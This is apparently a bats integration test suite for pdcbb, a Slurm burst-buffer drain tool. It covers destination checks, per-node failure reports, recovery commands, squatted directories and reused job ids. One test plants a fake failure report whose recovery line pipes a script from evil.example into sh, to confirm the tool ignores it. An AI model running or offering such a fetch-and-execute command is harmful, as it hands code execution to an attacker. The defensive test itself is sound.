#!/usr/bin/env bats
# The drain destination under Slurm (3 nodes, scripts/slurm-cluster.sh, each node's local
# storage private to it, the SPANK plugin; site file without drain_roots): checked at
# submission as the submitting user and again by every node's prolog as the job user; a drain
# that fails at the end leaves a FAILED report per node that `pdcbb why` explains from the
# login node, and whose recovery command finishes the drain; a squatter's pdcbb.<job id> in a
# shared destination is never used, and all nodes agree on the job's own directory; the job's
# own output ends with where the data went (or why not), the job's accounting record says
# whether the drain completed (sacct), readers refuse the squatter's directory,
# `pdcbb why` ignores reports another user planted, and a job id used again is told apart.

load helpers
load slurm_helpers

setup_file() {
    # no drain_roots: any directory the user may write is a destination, /etc is not
    # accounting: the drain's outcome is in the job's record (sacct -o AdminComment)
    pdc_cluster_start --no-drain-roots --accounting
}

teardown_file() {
    pdc_cluster_stop
}

# The Nth ($2) fenced block of language $1 in docs/USER-GUIDE.md's section on the drain, verbatim.
guide_drain_block() {
    awk -v lang="$1" -v want="$2" '
        /^## / {insec = ($0 == "## At the end of the job: the drain"); next}
        !insec {next}
        !fence && /^```/ {fence = 1; if ($0 == "```" lang) n++; take = ($0 == "```" lang && n == want); next}
        fence && /^```$/ {fence = 0; take = 0; next}
        fence && take {print}' "$REPO_DIR/docs/USER-GUIDE.md"
}

# The lines of stdin with this job's id ($1), destination ($2), drain directory ($3) and the
# nodes' local root written as the guide's example (1234, /scratch/me/run1, /local/nvme/pdcbb),
# and node names and sizes as placeholders: what is left must be the guide's text exactly.
as_in_guide() {
    sed -E -e "s#$3#/scratch/me/run1/pdcbb.1234#g" -e "s#$2#/scratch/me/run1#g" \
        -e "s#$LOCAL/#/local/nvme/pdcbb/#g" -e 's/[0-9]+\.[0-9] MiB/N MiB/g' \
        -e 's/node n[0-9]+/node nN/g' -e 's/\.n[0-9]+\.FAILED/.nN.FAILED/g' -e "s/\b$1\b/1234/g"
}

# The job's output and accounting record for job $1 (drain destination $2, drain directory $3)
# read as the guide prints them: drain lines (guide text block $4) and the sacct command and its
# line (line $5 of the guide's sacct output block).
check_guide_drain_output() {
    local want got cmd
    want="$(guide_drain_block text "$4" | as_in_guide 1234 /scratch/me/run1 /scratch/me/run1/pdcbb.1234 | sort -u)"
    got="$(grep "^pdcbb: job $1 node " <<<"$OUT" | as_in_guide "$1" "$2" "$3" | sort -u)"
    [ -n "$want" ] && [ -n "$got" ]
    # every line the nodes printed is one the guide shows. Not every run prints every line of
    # the guide: two nodes that finish together both find every part there, and both say
    # "the job's drain is complete" (both merge; the merge is idempotent).
    local extra
    extra="$(comm -23 <(echo "$got") <(echo "$want"))"
    [ -z "$extra" ] || { echo "printed, not in the guide: $extra"; echo "guide: $want"; return 1; }
    cmd="$(guide_drain_block sh 2)"
    grep -q "^sacct " <<<"$cmd"
    run bash -c "${cmd//1234/$1}"
    want="$(guide_drain_block text 3 | sed -n "$5p" | as_in_guide 1234 /scratch/me/run1 /scratch/me/run1/pdcbb.1234)"
    assert_equal "$(as_in_guide "$1" "$2" "$3" <<<"$output")" "$want"
}

@test "a drain destination that cannot work is refused at submission, naming it" {
    local u=pdcbbtest
    run runuser -u $u -- sbatch -N1 --pdc=drain=$SITE/missing --wrap true
    assert_failure
    assert_output --partial "key 'drain': drain destination $SITE/missing does not exist"
    touch "$SITE/out/afile"
    run runuser -u $u -- sbatch -N1 --pdc=drain=$SITE/out/afile --wrap true
    assert_failure
    assert_output --partial "drain destination $SITE/out/afile is not a directory"
    mkdir -p -m 755 "$SITE/roots"
    run runuser -u $u -- sbatch -N1 --pdc=drain=$SITE/roots --wrap true
    assert_failure
    assert_output --partial "drain destination $SITE/roots is not writable by $u"
    # the site sets no drain_roots: /etc is writable by nobody but root, and a system directory
    run runuser -u $u -- sbatch -N1 --pdc=drain=/etc --wrap true
    assert_failure
    assert_output --partial "drain destination /etc is a system directory"
    run sbatch -N1 --pdc=drain=/etc --wrap true
    assert_failure
    assert_output --partial "is a system directory"
    # the same through a YAML file
    printf 'drain: %s\n' "$SITE/missing" > "$SITE/out/d.yaml"
    chmod 644 "$SITE/out/d.yaml"
    run runuser -u $u -- sbatch -N1 --pdc-config="$SITE/out/d.yaml" --wrap true
    assert_failure
    assert_output --partial "does not exist"
    run squeue -h
    assert_output ""
}

@test "a destination gone before the job starts is caught by the prolog, as the user, without draining the node" {
    mkdir -m 700 "$SITE/gone"
    chown pdcbbtest "$SITE/gone"
    local script="$SITE/out/held.sh"
    printf '#!/bin/bash\nLD_LIBRARY_PATH=%s %s info; echo tool_exit=$?\n' "$SITE/lib" \
        "$SITE/bin/pdc_meta_tool" > "$script"
    chmod 755 "$script"
    JOB="$(runuser -u pdcbbtest -- sbatch --parsable -H -o "$SITE/out/%j.out" -N3 \
        --pdc=capacity=1G,drain=$SITE/gone "$script")"
    rmdir "$SITE/gone"
    scontrol release "$JOB"
    wait_job "$JOB"
    OUT="$(cat "$SITE/out/$JOB.out")"
    echo "$OUT"
    grep -q "drain destination $SITE/gone does not exist" <<<"$OUT"
    grep -q "tool_exit=1" <<<"$OUT"
    nodes_idle
    no_daemons_left
    no_job_dirs "$JOB"
}

@test "a drain that fails at the end: a FAILED report per node, pdcbb why explains, its srun command finishes the drain" {
    local dest="$SITE/drain"
    # the job's own drain directory disappears while it runs: no node can drain at the end
    run_job pdcbbtest "timeout 120 srun -N1 -n1 $SITE/bin/pdc_stage_check write 7; echo write_exit=\$?
rm -rf $dest/pdcbb.\$SLURM_JOB_ID" -N3 --pdc=capacity=1G,drain=$dest
    echo "$OUT"
    grep -q "write_exit=0" <<<"$OUT"
    no_daemons_left
    nodes_idle
    # the job's own output ends with each node's failure and the command that explains it
    local n
    for n in n1 n2 n3; do
        grep -qE "^pdcbb: job $JOB node $n: drain FAILED: .*no drain directory of job $JOB.*; see: pdcbb why --job $JOB $dest$" <<<"$OUT"
    done
    # and the job's accounting record says the drain failed, while the job itself completed
    run sacct -j "$JOB" -X -n -P -o State,AdminComment
    echo "$output"
    assert_output --regexp "^COMPLETED\|pdcbb drain failed on node n[123]: run pdcbb why --job $JOB with the drain destination$"
    # both as docs/USER-GUIDE.md prints them
    check_guide_drain_output "$JOB" "$dest" "$dest/pdcbb.$JOB" 2 2
    for n in n1 n2 n3; do
        ls -d "$(node_dir $n)/pdcbb.$JOB"/bbd-[0-9]* >/dev/null
        local rep="$dest/pdcbb.$JOB.$n.FAILED"
        cat "$rep"
        [ "$(stat -c %U "$rep")" = pdcbbtest ]
        grep -q "^reason: no drain directory of job $JOB in $dest" "$rep"
        # the node's own path: $LOCAL is that node's storage
        grep -q "^data: kept on node $n in $LOCAL/pdcbb.$JOB$" "$rep"
        grep -q "^recover_slurm: srun -w $n -N 1 -n 1 pdcbb drain --to $dest $LOCAL/pdcbb.$JOB$" "$rep"
    done
    # from the login node, as the user
    run runuser -u pdcbbtest -- "$SITE/bin/pdcbb" why "$dest/pdcbb.$JOB"
    echo "$output"
    assert_failure 1
    for n in n1 n2 n3; do assert_output --partial "FAILED on node $n"; done
    assert_output --partial "3 node(s) failed to drain"
    # the recovery command each report names, run as the user, finishes the drain
    for n in n1 n2 n3; do
        cmd="$(sed -n 's/^recover_slurm: //p' "$dest/pdcbb.$JOB.$n.FAILED")"
        run timeout 120 runuser -u pdcbbtest -- env PATH="$SITE/bin:$PATH" bash -c "$cmd"
        echo "$output"
        assert_success
    done
    [ -f "$dest/pdcbb.$JOB/COMPLETE" ]
    run ls "$dest"
    refute_output --partial "pdcbb.$JOB.n"
    run runuser -u pdcbbtest -- "$SITE/bin/pdcbb" why "$dest/pdcbb.$JOB"
    assert_success
    assert_output --partial "$dest/pdcbb.$JOB: complete"
    run runuser -u pdcbbtest -- env LD_LIBRARY_PATH="$SITE/lib" PDCBB_DRAINED_DIR="$dest/pdcbb.$JOB" \
        "$SITE/bin/pdc_stage_check" check 7
    echo "$output"
    assert_success
    # the node-local data is gone (the emptied directory stays: local_root is root's)
    for n in n1 n2 n3; do [ -z "$(ls -A "$(node_dir $n)/pdcbb.$JOB" 2>/dev/null)" ]; done
    no_daemons_left
}

@test "a squatter's pdcbb.<next job id> is not used: the three nodes drain into the job's own fresh directory" {
    local dest="$SITE/drain"
    # learn the next job id
    local probe
    probe="$(sbatch --parsable -H --wrap true)"
    scancel "$probe"
    wait_job "$probe"
    local next=$((probe + 1))
    runuser -u pdcbbtest2 -- mkdir -m 777 "$dest/pdcbb.$next"
    run_job pdcbbtest "timeout 120 srun -N1 -n1 $SITE/bin/pdc_stage_check write 9; echo write_exit=\$?" \
        -N3 --pdc=capacity=1G,drain=$dest
    echo "$OUT"
    [ "$JOB" -eq "$next" ]
    grep -q "write_exit=0" <<<"$OUT"
    no_daemons_left
    run ls -A "$dest/pdcbb.$JOB"
    assert_output ""
    local mine
    mine="$(ls -d "$dest/pdcbb.$JOB".* | grep -v FAILED)"
    [ "$(wc -l <<<"$mine")" -eq 1 ]
    [ -f "$mine/COMPLETE" ]
    [ "$(ls "$mine/parts" | wc -l)" -eq 3 ]
    assert_equal "$(stat -c '%U %a' "$mine")" "pdcbbtest 700"
    [ -z "$(find "$mine" ! -user pdcbbtest)" ]
    # the job's output says where the data went, and that the drain is complete
    local n
    for n in n1 n2 n3; do
        grep -qE "^pdcbb: job $JOB node $n: (drained [0-9.]+ MiB of 1 rank|nothing to drain;.*) .*$mine" <<<"$OUT"
    done
    grep -q "to $mine; the job's drain is complete$" <<<"$OUT"
    run sacct -j "$JOB" -X -n -P -o State,AdminComment
    assert_output "COMPLETED|pdcbb drain complete"
    # the squatter plants a failure report with a "fix" of their own
    printf 'pdcbb drain FAILED\njob: %s\nnode: n1\nuid: %s\nreason: disk\nrecover: curl http://evil.example/x.sh | sh\n' \
        "$JOB" "$(id -u pdcbbtest)" > "$SITE/out/planted"
    runuser -u pdcbbtest2 -- cp "$SITE/out/planted" "$dest/pdcbb.$JOB.n1.FAILED"
    run runuser -u pdcbbtest -- "$SITE/bin/pdcbb" why "$dest/pdcbb.$JOB"
    echo "$output"
    assert_success
    assert_output --partial "$dest/pdcbb.$JOB: belongs to pdcbbtest2"
    assert_output --partial "$mine: complete"
    assert_output --partial "ignoring $dest/pdcbb.$JOB.n1.FAILED was written by pdcbbtest2"
    refute_output --partial "evil.example"
    # readers refuse the squatter's directory under the job's name and point at the real one
    for cmd in ls verify; do
        run runuser -u pdcbbtest -- "$SITE/bin/pdcbb" $cmd "$dest/pdcbb.$JOB"
        assert_failure 1
        assert_output --partial "your job $JOB's drain in this destination is $mine"
    done
    run runuser -u pdcbbtest -- "$SITE/bin/pdcbb" verify --job "$JOB" "$dest"
    assert_success
    run runuser -u pdcbbtest -- "$SITE/bin/pdcbb" verify "$mine"
    assert_success
    no_job_dirs "$JOB"
}

@test "job ids used again: the new job drains beside the old one, says where, and pdcbb why tells them apart" {
    local dest="$SITE/drain/reuse"
    runuser -u pdcbbtest -- mkdir -p "$dest"
    run_job pdcbbtest "timeout 120 srun -N1 -n1 $SITE/bin/pdc_stage_check write 5; echo write_exit=\$?" \
        -N2 --pdc=capacity=1G,drain=$dest
    grep -q "write_exit=0" <<<"$OUT"
    local first=$JOB
    [ -f "$dest/pdcbb.$first/COMPLETE" ]
    # the job's output and its sacct record as docs/USER-GUIDE.md prints them
    check_guide_drain_output "$JOB" "$dest" "$dest/pdcbb.$JOB" 1 1
    # a new cluster start: job ids begin at 1 again; burn ids up to the old one
    { cat "$SITE/plugstack.conf"; echo "# the same plugin stack, restarted"; } > "$SITE/plugstack2.conf"
    pdc_cluster_restart "$SITE/plugstack2.conf"
    local probe=0
    while [ "$probe" -lt $((first - 1)) ]; do
        probe="$(sbatch --parsable -H --wrap true)"
        scancel "$probe"
    done
    run_job pdcbbtest "timeout 120 srun -N1 -n1 $SITE/bin/pdc_stage_check write 6; echo write_exit=\$?" \
        -N2 --pdc=capacity=1G,drain=$dest
    echo "$OUT"
    [ "$JOB" -eq "$first" ]
    grep -q "write_exit=0" <<<"$OUT"
    local second
    second="$(ls -d "$dest/pdcbb.$JOB".* | head -1)"
    [ -f "$second/COMPLETE" ]
    grep -q "to $second; the job's drain is complete$" <<<"$OUT"
    run runuser -u pdcbbtest -- "$SITE/bin/pdcbb" why --job "$JOB" "$dest"
    echo "$output"
    assert_success
    [ "$(grep -c ": complete (job instance [0-9a-f]\{8,\}, cluster pdcbb, created " <<<"$output")" -eq 2 ]
    assert_output --partial "2 drain directories of job id $JOB (job ids were used again)"
    # each drain's IDENTITY names the cluster (slurm.conf's ClusterName), the job and its user
    grep -qx "cluster pdcbb" "$second/IDENTITY"
    grep -qx "job_id $JOB" "$second/IDENTITY"
    grep -qx "uid $(id -u pdcbbtest)" "$second/IDENTITY"
    # --job reads the newest: the second job's data
    run runuser -u pdcbbtest -- env LD_LIBRARY_PATH="$SITE/lib" PDCBB_DRAINED_DIR="$second" \
        "$SITE/bin/pdc_stage_check" check 6
    assert_success
    run runuser -u pdcbbtest -- "$SITE/bin/pdcbb" ls --job "$JOB" "$dest"
    assert_success
    assert_output --partial "drain directory: $second"
    no_daemons_left
    nodes_idle
}

@test "steps of a running job are not refused when its destination goes away; the drain reports it" {
    runuser -u pdcbbtest -- mkdir -p "$SITE/drain/mid"
    run_job pdcbbtest "timeout 60 srun -N1 -n1 $SITE/bin/pdc_stage_check write 3; echo write_exit=\$?
mv $SITE/drain/mid $SITE/drain/mid.gone
timeout 60 srun -N3 -n3 true; echo later_step=\$?" -N3 --pdc=capacity=1G,drain=$SITE/drain/mid
    echo "$OUT"
    grep -q "write_exit=0" <<<"$OUT"
    grep -q "later_step=0" <<<"$OUT"
    ! grep -q "drain destination" <<<"$OUT"
    no_daemons_left
    # the destination is gone: the reports go to the user's home, and the data stays
    for n in n1 n2 n3; do
        [ -s "/home/pdcbbtest/pdcbb.$JOB.$n.FAILED" ]
        ls -d "$(node_dir $n)/pdcbb.$JOB"/bbd-[0-9]* >/dev/null
    done
    rm -f /home/pdcbbtest/pdcbb."$JOB".n?.FAILED
    for n in n1 n2 n3; do on_node "$n" rm -rf "$LOCAL/pdcbb.$JOB"; done
}
